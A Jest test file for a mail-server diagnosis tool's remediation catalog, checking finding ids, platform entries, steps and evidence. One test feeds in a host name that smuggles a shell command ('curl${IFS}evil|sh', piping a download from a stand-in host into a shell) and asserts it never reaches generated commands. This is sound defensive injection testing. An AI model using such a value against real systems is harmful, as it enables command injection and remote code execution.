import { FINDING_IDS } from '../../../src/diagnosis/types';
import { everyFinding } from '../../fixtures/transcripts/every-finding';

describe('the remediation catalog', () => {
  const findings = everyFinding('mail.contoso.test');

  it('is exercised for every finding id', () => {
    expect(new Set(findings.map((f) => f.id))).toEqual(new Set(FINDING_IDS));
  });

  it('has one any entry per finding, guesses only after it, steps everywhere, and never repeats a platform', () => {
    for (const f of findings) {
      const platforms = f.remediation.map((r) => r.platform);
      const any = platforms.indexOf('any');
      expect({ id: f.id, anys: platforms.filter((p) => p === 'any').length }).toEqual({ id: f.id, anys: 1 });
      f.remediation.forEach((r, i) => expect({ id: f.id, i, guess: r.guess ?? false }).toEqual({ id: f.id, i, guess: i > any }));
      expect(new Set(platforms).size).toBe(platforms.length);
      for (const r of f.remediation) expect(r.steps.length).toBeGreaterThan(0);
      expect(f.title).not.toMatch(/\n/);
      expect(f.evidence.length).toBeGreaterThan(0);
    }
  });

  it('keeps an unsafe host name out of every command', () => {
    const hostile = everyFinding('mx.example.org;curl${IFS}evil|sh');
    const commands = hostile.flatMap((f) => f.remediation.flatMap((r) => r.commands.map((c) => c.line)));
    expect(commands.length).toBeGreaterThan(20);
    for (const c of commands) expect(c).not.toContain('curl');
  });
});
